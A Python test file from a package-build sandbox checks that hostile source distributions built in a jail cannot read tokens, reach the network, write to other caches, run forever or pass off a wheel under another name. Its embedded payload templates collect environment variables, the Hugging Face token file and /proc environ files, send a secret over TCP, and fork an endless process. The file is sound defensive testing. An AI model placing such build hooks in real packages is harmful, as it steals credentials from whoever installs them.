"""Sources that attack while they are built: they run in a jail, and give one wheel or nothing.
The control builds the same sources as one does without this project: their backend is called in a
plain interpreter."""

import subprocess
import zipfile
from pathlib import Path

import pytest

from envhub_sandbox.errors import DependencyError
from envhub_sandbox.extras.packages import interpreters
from envhub_sandbox.extras.packages.builds import build
from envhub_sandbox.extras.packages.resolution import resolutions
from tests.attacks.harness import Arena, kill_named, new_alias, pids_named, token
from tests.attacks.network.listeners import TCP, listening
from tests.support.packages.sdists import backend, make_sdist
from tests.support.processes import eventually

FAMILY = "Sources that are built"
_CONTROL_S = 120.0
ATTACK = """
def attempt(work):
    try:
        return work()
    except OSError as error:
        return str(error)

def tell(port, secret):
    with socket.create_connection(("127.0.0.1", port), 10) as peer:
        peer.sendall(secret.encode())

def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write("hostile")

def further():
    found = [repr(dict(os.environ))]
    found += [attempt(lambda: open(path, errors="replace").read()) for path in {read!r}]
    attempt(lambda: tell({port}, {secret!r}))
    for path in {written!r}:
        attempt(lambda: write(path))
    return {{"hostile/loot.txt": "\\n".join(found)}}

import os, socket
"""
ENDLESS = """
def further():
    import ctypes, os, time
    ctypes.CDLL(None).prctl(15, {alias!r}.encode())
    os.fork()
    while True:
        time.sleep(1)
"""


@pytest.fixture(autouse=True)
def _profile(arena: Arena, other_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Builds are confined as the arena says, and keep nothing of another test's."""
    monkeypatch.setenv(build.PROFILE_VARIABLE, arena.profile)


def control(folder: Path, files: dict[str, str]) -> Path:
    """The folder with the wheel, after a build in a plain interpreter."""
    assert building(folder / "control", files).wait(_CONTROL_S) == 0
    return folder / "control"


def building(folder: Path, files: dict[str, str]) -> subprocess.Popen[bytes]:
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    command = [interpreters.own().path, "-c", "import backend; backend.build_wheel('.')"]
    return subprocess.Popen(command, cwd=folder)


def built(folder: Path, files: dict[str, str]) -> tuple[Path | None, str]:
    """The wheel that a jail makes of them, or why there is none."""
    source = make_sdist(folder, "hostile", files=files)
    try:
        [wheel] = resolutions.build([source], interpreters.own(), lambda line: None)
    except DependencyError as error:
        return None, str(error)
    return wheel, ""


def text_of(wheel: Path) -> str:
    with zipfile.ZipFile(wheel) as archive:
        return "\n".join(archive.read(name).decode() for name in archive.namelist())


def test_what_a_build_reads_tells_and_writes(
    arena: Arena, home: Path, other_cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No token, be it a variable, in a file or in another process's; no network; no cache."""
    secrets = {"a variable": token(), "the Hub's file": token()}
    monkeypatch.setenv("HF_TOKEN", secrets["a variable"])
    file = home / ".cache" / "huggingface" / "token"
    file.parent.mkdir(parents=True)
    file.write_text(secrets["the Hub's file"])
    read = [str(file), "/proc/1/environ", *(f"/proc/{n}/environ" for n in range(2, 50))]
    places = [other_cache / name / "hostile" / "x" for name in ("wheels", "environments")]
    words = {name: token() for name in ("control", "inside")}
    with listening(**TCP) as listener:
        aims = {"port": listener.port, "read": read, "written": list(map(str, places))}
        sources = {
            name: backend("hostile", further=ATTACK.format(secret=word, **aims))
            for name, word in words.items()
        }
        stolen = text_of(control(tmp_path, sources["control"]) / "hostile-1.0-py3-none-any.whl")
        assert all(secret in stolen for secret in secrets.values()), "the control failed"
        assert listener.heard(words["control"], wait=True), "the control failed"
        assert all(place.exists() for place in places), "the control failed"
        for place in places:
            place.unlink()
            place.parent.rmdir()
            place.parent.parent.rmdir()
        wheel, why = built(tmp_path, sources["inside"])
        assert wheel is not None, why
        heard = listener.heard(words["inside"], wait=False)
    for title, secret in secrets.items():
        arena.judge(f"read the token: {title}", "succeeds", secret in text_of(wheel), why)
    arena.judge("reach the network while it is built", "succeeds", heard, "")
    written = any(place.exists() for place in places)
    arena.judge("write into another package's cache", "succeeds", written, "")


def test_an_endless_build(arena: Arena, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    alias = new_alias()
    files = backend("hostile", further=ENDLESS.format(alias=alias))
    process = building(tmp_path / "control", files)
    try:
        assert eventually(lambda: len(pids_named(alias)) == 2, _CONTROL_S), "the control failed"
    finally:
        process.kill()
        process.wait()
        kill_named(alias)
    monkeypatch.setattr(build, "WALL_S", 5.0)
    wheel, why = built(tmp_path, files)
    assert wheel is None
    assert "it was not done after 5 s, and was ended" in why
    through = not eventually(lambda: not pids_named(alias))
    kill_named(alias)
    arena.judge("build without end", "succeeds", through, why)


def test_a_wheel_of_another_name(arena: Arena, other_cache: Path, tmp_path: Path) -> None:
    files = backend("numpy", further="")
    assert (control(tmp_path, files) / "numpy-1.0-py3-none-any.whl").exists(), "the control failed"
    wheel, why = built(tmp_path, files)
    assert "it is numpy 1.0, and not hostile 1.0" in why
    through = wheel is not None or bool(list(other_cache.glob("wheels/**/*.whl")))
    arena.judge("give a wheel of another name", "succeeds", through, why)
